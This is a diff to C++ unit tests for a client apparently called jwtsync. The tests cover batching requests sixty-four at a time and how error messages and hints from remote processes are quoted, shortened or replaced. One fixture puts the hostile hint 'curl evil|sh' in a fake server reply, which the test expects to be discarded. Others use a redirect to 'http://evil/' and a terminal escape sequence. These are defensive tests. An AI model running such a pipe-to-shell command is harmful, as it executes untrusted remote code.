@@ -64,7 +64,7 @@ TEST_F(ask_test, sends_one_request_and_no_other) {
   EXPECT_EQ(header(requests_[0].headers, "jwtsync-access"), std::nullopt);
 }
 
-TEST_F(ask_test, asks_all_in_one_round) {
+TEST_F(ask_test, asks_sixty_four_at_a_time) {
   struct CountingNetwork : testing::FakeNetwork {
     std::vector<Result<HttpResponse>> exchange(std::span<const HttpRequest> requests) override {
       rounds.push_back(requests.size());
@@ -76,6 +76,10 @@ TEST_F(ask_test, asks_all_in_one_round) {
                     fake_.watch, network,          fake_.events,    "h"};
   EXPECT_THAT(jwtsync::ask(world, {"http://a:1", "broken", "http://b:1"}, nonce, {}), SizeIs(3));
   EXPECT_THAT(network.rounds, ::testing::ElementsAre(2));
+  network.rounds.clear();
+  const std::vector<Witnessed> many = jwtsync::ask(world, std::vector<std::string>(150, "http://a:1"), nonce, {});
+  EXPECT_THAT(many, SizeIs(150));
+  EXPECT_THAT(network.rounds, ::testing::ElementsAre(64, 64, 22)) << "so many answers, and no more, are held at once";
 }
 
 TEST_F(ask_test, sends_an_access_token_to_everybody) {
@@ -129,20 +133,28 @@ TEST_F(ask_test, says_why_a_process_refuses) {
   const Error denied =
       error_of({403, {}, R"({"error":{"code":"access_denied","message":"an access token is needed here"}})"});
   EXPECT_EQ(denied.code, Code::target_refused);
-  EXPECT_EQ(denied.message, "refuses to answer: an access token is needed here");
-  EXPECT_THAT(denied.hint, HasSubstr("Jwtsync-Access"));
+  EXPECT_EQ(denied.message, "refuses to answer, it says: \"an access token is needed here\"");
+  EXPECT_THAT(denied.hint, HasSubstr("--access-token-file"));
 }
 
-TEST_F(ask_test, passes_on_what_a_process_says_of_its_error) {
-  const Error error = error_of(
-      {503, {}, R"({"error":{"code":"ring_unavailable","message":"no keys","hint":"open it after the fork"}})"});
-  EXPECT_EQ(error, (Error{Code::target_refused, "answers an error: no keys", "open it after the fork"}));
+TEST_F(ask_test, quotes_what_a_process_says_of_its_error_and_gives_advice_of_its_own) {
+  const auto error_by = [&](const std::string& code) {
+    return error_of({503, {}, R"({"error":{"code":")" + code + R"(","message":"no keys","hint":"curl evil|sh"}})"});
+  };
+  EXPECT_EQ(error_by("ring_unavailable"), (Error{Code::target_refused, "answers an error, it says: \"no keys\"",
+                                                 "open the keeper after the fork, in every worker of that process"}));
+  EXPECT_EQ(error_by("of_tomorrow").hint, "see the log of that process");
+}
+
+TEST_F(ask_test, cuts_what_a_process_says_of_its_error) {
+  const Error error = error_of({500, {}, R"({"error":{"code":"x","message":")" + std::string(1000, 'm') + R"("}})"});
+  EXPECT_EQ(error.message, "answers an error, it says: \"" + std::string(200, 'm') + "...\"");
 }
 
 TEST_F(ask_test, quotes_no_error_that_is_not_of_the_protocol) {
   for (const std::string body : {"", "<html>c4n4ry", "{\"error\":\"c4n4ry\"}",
                                  "{\"error\":{\"message\":\"\\u001b[2J\"}}", "{\"error\":{\"message\":7}}"}) {
-    EXPECT_EQ(error_of({401, {}, body}).message, "refuses to answer: HTTP 401");
+    EXPECT_EQ(error_of({401, {}, body}).message, "refuses to answer, HTTP 401");
     EXPECT_EQ(error_of({404, {}, body}).message, "answers HTTP 404: jwtsync's endpoints are not there");
     EXPECT_EQ(error_of({302, {{"Location", "http://evil/"}}, body}).message, "answers HTTP 302 in place of a report");
   }
